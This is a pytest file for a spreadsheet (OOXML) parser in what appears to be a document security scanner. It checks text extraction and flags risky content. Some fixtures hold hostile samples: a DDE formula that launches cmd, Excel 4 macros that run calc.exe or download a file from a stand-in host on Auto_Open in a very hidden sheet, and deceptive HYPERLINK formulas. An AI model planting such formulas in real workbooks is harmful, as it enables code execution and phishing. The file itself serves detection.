from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from python_calamine import CalamineWorkbook
from support.office import SHEET, office_corpus, workbook
from support.opened_file import found, opened, urls

from sekisho.parse.unpack.office.ooxml import open_ooxml


def sheets(content, **limits):
    return {text.place: text.text for text in opened(open_ooxml, content, **limits).texts}


def row(*cells):
    return f"<row>{''.join(cells)}</row>"


STRINGS = (
    '<si><t>山田</t><rPh sb="0" eb="2"><t>ヤマダ</t></rPh></si>'
    "<si><r><t>太</t></r><r><t>郎 &amp; &#x5B50;</t></r></si><si/>"
)
CELLS = row('<c r="A1" t="s"><v>0</v></c>', '<c r="B1" s="0" t="s"><v>1</v></c>', '<c r="C1" s="1"/>') + row(
    '<c r="A2"><v>4.111111111111111E15</v></c>', '<c r="B2" t="str"><f>A1&amp;"x"</f><v>ab&lt;c</v></c>'
)
SHOWN = "山田\t太郎 & 子\n4111111111111111\tab<c"


def test_cells_as_lines():
    assert sheets(workbook({"顧客": CELLS}, strings=STRINGS)) == {"顧客": SHOWN}


VARIANTS = {
    "comments": lambda data: data.replace("<v>", "<v><!-- x -->"),
    "attributes the other way round": lambda data: data.replace('r="B1" s="0" t="s"', 't="s" cm="1" r="B1" s="0"'),
    "single quotes": lambda data: data.replace('t="s"', "t='s'"),
    "cdata": lambda data: data.replace("<v>0</v>", "<v><![CDATA[0]]></v>"),
    "spaces": lambda data: data.replace("><", ">\n <"),
    "inline": lambda data: data.replace('t="s"><v>0</v>', 't="inlineStr"><is><t>山田</t></is>'),
}


@pytest.mark.parametrize("change", VARIANTS.values(), ids=VARIANTS.keys())
def test_however_it_is_written(change):
    assert sheets(workbook({"顧客": change(CELLS)}, strings=STRINGS)) == {"顧客": SHOWN}


def test_prefixes():
    inner = CELLS.replace("<", "<y:").replace("<y:/", "</y:")
    namespaces = SHEET.replace("xmlns=", "xmlns:y=")
    data = f"<?xml version='1.0'?><y:worksheet {namespaces}><y:sheetData>{inner}</y:sheetData></y:worksheet>"
    assert sheets(workbook({"顧客": data}, strings=STRINGS)) == {"顧客": SHOWN}


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.mark.parametrize(
    "strings",
    [
        f'<si xmlns:y="{MAIN}"><y:t>山田</y:t></si><si><t>太郎 &amp; 子</t></si>',
        f'<y:si xmlns:y="{MAIN}"><y:t>山田</y:t></y:si><si><t>太郎 &amp; 子</t></si>',
        f'<si><r><t></t></r><y:r xmlns:y="{MAIN}"><y:t>山田</y:t></y:r></si><si><t>太郎 &amp; 子</t></si>',
        "<si><t\n>山田</t></si><si><t>太郎 &amp; 子</t></si>",
        "<si><t>山_x7530_</t></si><si><t>太郎 _x0026_ 子</t></si>",
        "<!-- --><si><t>山_x7530_</t></si><si><t>太郎 _x0026_ 子</t></si>",
        "<si><t>山田</t><rPh><t>ア</t></rPh ></si><si><t>太郎 &amp; 子</t></si><si><t>a</t><rPh><t>b</t></rPh></si>",
        "<si><t>山田</t><rPh/></si><si><t>太郎 &amp; 子</t></si><si><t>a</t><rPh><t>b</t></rPh></si>",
    ],
)
def test_however_the_strings_are_written(strings):
    assert sheets(workbook({"顧客": CELLS}, strings=strings)) == {"顧客": SHOWN}


def test_a_charset_behind_a_blank():
    head = '<?xml version="1.0" encoding = "iso-2022-jp"?>'
    strings = f"{head}<sst {SHEET}><si><t>山田</t></si><si><t>太郎</t></si></sst>".encode("iso-2022-jp")
    content = workbook({"顧客": CELLS}, more={"xl/sharedStrings.xml": strings})
    assert sheets(content)["顧客"].startswith("山田\t太郎\n")


def test_utf_16():
    content = workbook(
        {
            "顧客": "<?xml version='1.0' encoding='utf-16'?>"
            f"<worksheet {SHEET}><sheetData>{CELLS}</sheetData></worksheet>"
        }
    )
    plain = zipfile.ZipFile(BytesIO(content))
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in plain.namelist():
            data = plain.read(name)
            archive.writestr(name, data.decode().encode("utf-16") if name.endswith("s0.xml") else data)
    assert "4111111111111111" in sheets(out.getvalue())["顧客"]


def test_hidden_sheets_and_names():
    names = '<definedName name="口座">"1234567"</definedName>'
    content = workbook({"a": row('<c r="A1"><v>1</v></c>'), "b": row('<c r="A1"><v>2</v></c>')}, names=names,
                       states=("visible", "veryHidden"))  # fmt: skip
    assert sheets(content) == {"a": "1", "b": "2", "names": '口座\t"1234567"'}


STYLES = (
    '<numFmts><numFmt numFmtId="164" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/>'
    '<numFmt numFmtId="165" formatCode="000000000000"/><numFmt numFmtId="166" formatCode="000\\-0000"/>'
    '<numFmt numFmtId="167" formatCode="#,##0;[Red]\\-#,##0"/></numFmts>'
    '<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>'
    '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="166"/>'
    '<xf numFmtId="167"/></cellXfs>'
)


def test_numbers_as_people_see_them():
    values = ["12345", "45000", "45000.5", "1234567890", "1234567", "45000"]
    cells = row(*[f'<c r="A1" s="{n}"><v>{value}</v></c>' for n, value in enumerate(values)])
    assert sheets(workbook({"a": cells}, styles=STYLES))["a"].split("\t") == [
        "12345", "2023-03-15", "2023-03-15 12:00:00", "001234567890", "123-4567", "45000"
    ]  # fmt: skip


def test_page_headers():
    data = (
        f"<worksheet {SHEET}><sheetData/><headerFooter><oddHeader>&amp;C社外秘</oddHeader></headerFooter></worksheet>"
    )
    assert sheets(workbook({"a": data})) == {"a": "&C社外秘"}
    for space in (' xml:space="preserve"', "\n"):
        spaced = data.replace("<oddHeader>", f"<oddHeader{space}>")
        assert sheets(workbook({"a": spaced})) == {"a": "&C社外秘"}


def test_a_sheet_that_no_workbook_names():
    lost = row('<c r="A1"><v>1</v></c>', '<c r="B1"><f>HYPERLINK("https://evil.example/","b")</f><v>2</v></c>')
    data = f"<worksheet {SHEET}><sheetData>{lost}{row('<c><v>3</v></c>')}</sheetData></worksheet>"
    opening = opened(open_ooxml, workbook({"a": CELLS}, more={"xl/worksheets/s9.xml": data}))
    assert ("1\t2\n3", "xml") in [(text.text, text.place) for text in opening.texts]
    assert urls(opening) == ["https://evil.example/"]


def test_links_in_formulas():
    cell = '<c r="A1" t="str"><f>HYPERLINK("https://evil.example/","bank.example")</f><v>bank.example</v></c>'
    opening = opened(open_ooxml, workbook({"a": row(cell)}))
    assert [(link.url, link.text) for link in opening.links] == [("https://evil.example/", "bank.example")]
    assert found(opening) == {}


@pytest.mark.parametrize(
    ("formula", "severity"),
    [("cmd|'/c calc'!A0", "high"), ("RSS|'9984.T'!現在値", "medium"), ("IF(A1&lt;1,A2|B3)", None), ('"a|b!"', None)],
)
def test_dde_in_formulas(formula, severity):
    opening = opened(open_ooxml, workbook({"a": row(f'<c r="A1"><f>{formula}</f><v>0</v></c>')}))
    assert found(opening).get("dde") == severity


def test_excel_4_macros():
    def severity(formulas, *, names="", states=("visible",)):
        data = "".join(row(f'<c r="A{n}"><f>{f}</f><v>0</v></c>') for n, f in enumerate(formulas))
        content = workbook({"m": data}, kinds=("xlMacrosheet",), names=names, states=states)
        return found(opened(open_ooxml, content))["xlm-macro"]

    auto = '<definedName name="_xlnm.Auto_Open">m!$A$1</definedName>'
    assert severity(["ALERT(1)", "HALT()"], names=auto) == "medium"
    assert severity(['EXEC("calc.exe")']) == "high"
    assert severity(["FORMULA(A1,B1)", "SET.VALUE(A1,2)", "CHAR(65)"], names=auto, states=("veryHidden",)) == "high"
    download = 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://e.example/a","a",0,0)'
    assert severity([download], names=auto, states=("veryHidden",)) == "critical"


def test_cells_of_a_corner_take_no_room():
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    assert sheets(workbook({"a": cells})) == {"a": "1\n2"}


def test_one_long_string_many_times():
    strings = f"<si><t>{'x' * 30_000}</t></si>"
    cells = row('<c r="A1" t="s"><v>0</v></c>' * 20_000)
    opening = opened(open_ooxml, workbook({"a": cells}, strings=strings), text_chars=100_000)
    assert sum(len(text.text) for text in opening.texts) == 100_000
    assert found(opening) == {"over-limit": "medium"}


def test_against_calamine():
    compared = 0
    for name, content in office_corpus().items():
        if not name.endswith((".xlsx", ".xlsm", ".xlsb")) or content[:2] != b"PK" or "excel4" in name:
            continue
        ours = sheets(content)
        book = CalamineWorkbook.from_filelike(BytesIO(content))
        for sheet in book.sheet_names:
            theirs = [
                [str(c) for c in r if c not in ("", True, False)] for r in book.get_sheet_by_name(sheet).to_python()
            ]
            lines = [line for line in ours.get(sheet, "").splitlines() if line not in ("TRUE", "FALSE")]
            assert [line.replace("\t#REF!", "") for line in lines] == ["\t".join(r) for r in theirs if r], (
                name,
                sheet,
            )
            compared += 1
    assert compared > 8


def test_targets_of_sheets():
    content = workbook({"a": row()}, rows=[("h", "hyperlink", "https://a.example/", "External")])
    assert urls(opened(open_ooxml, content)) == ["https://a.example/"]
